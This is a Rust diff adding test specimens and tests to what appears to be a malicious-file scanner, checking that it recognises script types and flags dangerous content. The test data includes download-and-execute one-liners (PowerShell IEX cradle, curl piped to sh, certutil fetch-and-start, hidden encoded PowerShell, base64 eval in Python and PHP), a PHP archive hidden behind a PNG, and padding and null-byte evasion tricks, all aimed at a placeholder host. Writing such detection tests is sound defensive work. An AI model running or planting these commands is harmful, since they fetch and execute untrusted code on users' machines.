@@ -1,5 +1,132 @@
-use crate::forge::{Example, Specimen};
+use crate::forge::text::{phar, utf16};
+use crate::forge::{Example, Specimen, case, fired, png, type_of};
+use sheepdip::model::report::Verdict;
 
-pub const SPECIMENS: &[Specimen] = &[];
+pub const SPECIMENS: &[Specimen] = &[
+    ("powershell", || {
+        b"param([string]$Name)\n$items = Get-ChildItem -Path $Name\nforeach ($item in $items) {\n    Write-Host $item.Name\n}\n".to_vec()
+    }),
+    ("encoded-script", || b"#@~^DgAAAA==\\ko$K6,J4J4bJqAQAAA==^#~@".to_vec()),
+    ("vbscript", || {
+        b"Dim shell\nSet shell = CreateObject(\"WScript.Shell\")\nWScript.Echo \"hello\"\nWScript.Quit\n".to_vec()
+    }),
+    ("vba", || {
+        b"Attribute VB_Name = \"Module1\"\nSub Tidy()\n    Dim i As Integer\n    For i = 1 To 10\n        Cells(i, 1).Value = i\n    Next i\n    ActiveWorkbook.Save\nEnd Sub\n".to_vec()
+    }),
+    ("javascript", || {
+        b"var shell = new ActiveXObject(\"WScript.Shell\");\nfunction greet(name) {\n  return \"hello \" + name;\n}\nWScript.Echo(greet(\"x\"));\n".to_vec()
+    }),
+    ("wsf", || b"<job id=\"a\">\n<script language=\"VBScript\">\n' nothing\n</script>\n</job>\n".to_vec()),
+    ("batch", || {
+        b"@echo off\r\nsetlocal\r\nset NAME=%1\r\nif \"%NAME%\"==\"\" goto end\r\necho %NAME%\r\n:end\r\n".to_vec()
+    }),
+    ("shell", || b"#!/bin/sh\necho hello\n".to_vec()),
+    ("python", || b"#!/usr/bin/env python3\nprint('hello')\n".to_vec()),
+    ("perl", || b"#!/usr/bin/perl -w\nprint \"hello\";\n".to_vec()),
+    ("php", || b"<?php\necho 'hello';\n".to_vec()),
+    ("ruby", || b"#!/usr/bin/env ruby\nputs 'hello'\n".to_vec()),
+    ("lua", || b"#!/usr/bin/lua5.4\nprint('hello')\n".to_vec()),
+    ("tcl", || b"#!/usr/bin/tclsh8.6\nputs hello\n".to_vec()),
+    ("awk", || b"#!/usr/bin/awk -f\n{ print }\n".to_vec()),
+    ("applescript", || b"tell application \"Finder\"\n    activate\n    display dialog \"hello\"\nend tell\n".to_vec()),
+    ("autoit", || {
+        b"#NoTrayIcon\n#include <MsgBoxConstants.au3>\nLocal $size = 1\nWhile $size < 3\n    $size = $size + 1\nWEnd\nMsgBox(0, \"a\", @ScriptDir)\n".to_vec()
+    }),
+    ("autohotkey", || {
+        b"#NoEnv\n#SingleInstance Force\nSendMode Input\nSetWorkingDir %A_ScriptDir%\n^j::\nMsgBox hello\nreturn\n"
+            .to_vec()
+    }),
+    ("asp", || b"<%@ Language=VBScript %>\n<% Response.Write(\"hello\") %>\n".to_vec()),
+    ("jsp", || b"<%@ page import=\"java.util.*\" %>\n<% out.print(1); %>\n".to_vec()),
+    ("interpreter-script", || b"#!/usr/sbin/nft -f\nflush ruleset\n".to_vec()),
+    ("compiled-applescript", || b"FasdUAS 1.101.10\x0e\0\0\0\x04".to_vec()),
+    ("phar", || phar("<?php echo 1; ")),
+];
 
-pub const EXAMPLES: &[Example] = &[];
+pub const EXAMPLES: &[Example] = &[
+    Example {
+        rule: "scripts.download-and-run",
+        fires: || case("a.ps1", "IEX (New-Object Net.WebClient).DownloadString('https://x.invalid/a')\n"),
+        silent: || case("a.ps1", "$page = Invoke-WebRequest -Uri 'https://x.invalid/'\nWrite-Host $page.StatusCode\n"),
+    },
+    Example {
+        rule: "scripts.download-to-shell",
+        fires: || case("a.sh", "#!/bin/sh\ncurl -fsSL https://x.invalid/a.sh | sh\n"),
+        silent: || case("a.sh", "#!/bin/sh\n# curl https://x.invalid/a.sh | sh\ncurl https://x.invalid/list | sort\n"),
+    },
+    Example {
+        rule: "scripts.encoded",
+        fires: || case("a.vbe", "#@~^DgAAAA==\\ko$K6,J4J4bJqAQAAA==^#~@"),
+        silent: || case("a.vbs", "Dim a\nSet a = CreateObject(\"WScript.Shell\")\nWScript.Echo \"x\"\n"),
+    },
+];
+
+const VBS: &str = "On Error Resume Next\r\nDim a\r\nSet a = CreateObject(\"WScript.Shell\")\r\nWScript.Echo \"x\"\r\n";
+
+#[test]
+fn a_script_is_known_under_a_harmless_name_and_in_every_encoding() {
+    let kind = |bytes: Vec<u8>| type_of(&case("a.txt", bytes).examine());
+    assert_eq!(kind(VBS.into()), "vbscript");
+    assert_eq!(kind(utf16(VBS, true)), "vbscript");
+    assert_eq!(kind(utf16(VBS, false)), "vbscript");
+    assert_eq!(kind(format!("\u{FEFF}{VBS}").into()), "vbscript");
+    assert_eq!(kind(b"\xEF\xBB\xBF#!/bin/sh\necho x\n".to_vec()), "shell");
+}
+
+#[test]
+fn blanks_comments_and_zeros_hide_no_script() {
+    let kind = |bytes: Vec<u8>| type_of(&case("a.txt", bytes).examine());
+    assert_eq!(kind(format!("{}{VBS}", "\r\n".repeat(40_000)).into()), "vbscript");
+    assert_eq!(kind(format!("{}{VBS}", "' a long story\r\n".repeat(1000)).into()), "vbscript");
+    let zeros = VBS.bytes().enumerate().flat_map(|(i, b)| if i % 5 == 0 { vec![0, b] } else { vec![b] });
+    assert_eq!(kind(zeros.collect()), "vbscript");
+}
+
+#[test]
+fn one_line_is_enough_where_it_is_clear() {
+    for (id, text) in [
+        ("batch", "@echo off & powershell -nop -w hidden -enc AAAA\r\n"),
+        ("powershell", "IEX (New-Object Net.WebClient).DownloadString('https://x.invalid/a')"),
+        ("vbscript", "CreateObject(\"WScript.Shell\").Run \"nothing.exe\", 0"),
+        ("javascript", "new ActiveXObject(\"WScript.Shell\").Run(\"nothing.exe\");"),
+        ("text", "powershell"),
+        ("text", "Use CreateObject to make it."),
+    ] {
+        assert_eq!(type_of(&case("a.txt", text).examine()), id, "{text}");
+    }
+}
+
+#[test]
+fn what_downloads_and_starts_is_dangerous_in_every_language() {
+    for text in [
+        "Set x = CreateObject(\"MSXML2.XMLHTTP\")\nx.Open \"GET\", \"https://x.invalid\", False\nx.Send\n\
+         Set s = CreateObject(\"WScript.Shell\")\ns.Run \"a.exe\"\n",
+        "@echo off\r\ncertutil -urlcache -split -f https://x.invalid/a a.exe\r\nstart a.exe\r\n",
+        "@echo off\r\npowershell -nop -w hidden -enc AAAA\r\n",
+        "var x = new ActiveXObject(\"MSXML2.XMLHTTP\");\nvar s = new ActiveXObject(\"WScript.Shell\");\ns.Run(\"a.exe\");\n",
+        "#!/usr/bin/env python3\nimport base64\nexec(base64.b64decode('AAAA'))\n",
+        "<?php eval(base64_decode('AAAA')); ?>\n",
+    ] {
+        let report = case("a.txt", text).examine();
+        assert!(fired(&report).contains(&"scripts.download-and-run"), "{} {text}", type_of(&report));
+        assert_eq!(report.judgement.verdict, Verdict::Dangerous);
+    }
+}
+
+#[test]
+fn a_php_archive_behind_a_picture_is_dangerous_and_its_name_in_a_text_is_not() {
+    let mut bytes = png::plain();
+    bytes.extend(phar(""));
+    let report = case("photo.png", bytes).examine();
+    assert_eq!(report.judgement.verdict, Verdict::Dangerous, "{:?}", fired(&report));
+    let text = "The stub ends with __HALT_COMPILER(); ?>\r\nand then the manifest follows, which is binary.\n";
+    assert_eq!(case("a.txt", text).examine().judgement.verdict, Verdict::Clean);
+}
+
+#[test]
+fn snippets_in_prose_are_no_script() {
+    let readme = "# Tool\n\nA small tool that does things for you.\n\n## Install\n\n```sh\ncurl https://x.invalid | sh\nexport \
+                  PATH=$PATH:/opt/tool/bin\n```\n\nThen start it with the name of a file, and it will tell you what it \
+                  is.\n\n```python\nimport tool\ndef main():\n    tool.run()\n```\n";
+    assert_eq!(type_of(&case("README.md", readme).examine()), "text");
+}
